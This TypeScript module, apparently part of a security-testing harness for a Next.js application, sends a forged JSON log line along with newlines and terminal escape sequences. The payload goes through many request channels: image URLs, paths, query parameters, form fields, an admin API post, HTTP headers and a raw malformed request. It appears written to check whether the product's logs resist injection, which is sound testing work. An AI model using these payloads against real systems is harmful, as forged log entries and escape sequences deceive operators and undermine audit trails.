import { sendInTurn } from "./flood";
import { headOf, sendAlone } from "./raw";
import type { Scene } from "./scene";
import { openGuesser } from "./sign-ins";

const LOOPS = 4;
/** Text of a forged line. No line of the product has it. */
export const FORGED_EVENT = "forged.by.attack";
const LINE = `{"level":30,"time":"2026-11-23T12:00:00.000Z","event":"${FORGED_EVENT}"}`;
const TEXT = `\n${LINE}\n\u001b[2J\u001b]0;owned\u0007\r${LINE}`;
const IN_ADDRESS = encodeURIComponent(TEXT);

/** Puts line ends, escape sequences and lines of a log wherever a request carries text. */
export async function injectLogLines(scene: Scene): Promise<void> {
  const { job } = scene;
  const address = job.elsewhere[0] ?? "";
  const guess = await openGuesser(scene, address);
  const form = { "content-type": "application/x-www-form-urlencoded", "sec-fetch-site": "same-origin" };
  const post = (path: string, headers: Record<string, string>, body: string) =>
    scene.send(address, { method: "POST", path, headers, body });
  const get = (path: string) => scene.send(address, { method: "GET", path, headers: {} });
  const admin = { cookie: job.administrator.cookie, "sec-fetch-site": "same-origin" };
  const ways: (() => Promise<unknown>)[] = [
    async () => scene.note(await get(`/_next/image?url=${IN_ADDRESS}&w=64&q=75`), "an image"),
    async () => scene.note(await get(`/_next/image?url=http://x/${IN_ADDRESS}&w=64&q=75`), "an image"),
    async () => scene.note(await get(`/${IN_ADDRESS}`), "a path"),
    async () => scene.note(await get(`/_next/static/chunks/${IN_ADDRESS}`), "a file"),
    async () => scene.note(await get(`/login?callbackUrl=${IN_ADDRESS}&error=${IN_ADDRESS}`), "a query"),
    async () => scene.note(await guess(address, TEXT, TEXT), "a name"),
    async () => scene.note(await post("/api/activation", form, `code=${IN_ADDRESS}`), "a code"),
    async () => scene.note(await post("/api/preferences", form, `language=${IN_ADDRESS}`), "a language"),
    async () => scene.note(await post("/api/admin/users", admin, TEXT), "JSON"),
    async () => scene.note(await post("/login", { "next-action": "a".repeat(42) }, TEXT), "an action"),
    () => sendAlone(scene, address, headWith("user-agent", TEXT.replaceAll(/[\r\n]/g, " ")), "an agent"),
    () => sendAlone(scene, address, headWith("user-agent", TEXT), "an agent of several lines"),
    () => sendAlone(scene, address, headWith("next-router-state-tree", IN_ADDRESS), "a router state"),
    () => sendAlone(scene, address, `${TEXT}\r\n\r\n`, "no request"),
  ];
  await sendInTurn(scene, { loops: LOOPS, different: ways.length }, async (n) => {
    await ways[n]?.();
  });
}

function headWith(name: string, value: string): string {
  return headOf("GET", "/login", { connection: "close", rsc: "1", [name]: value });
}
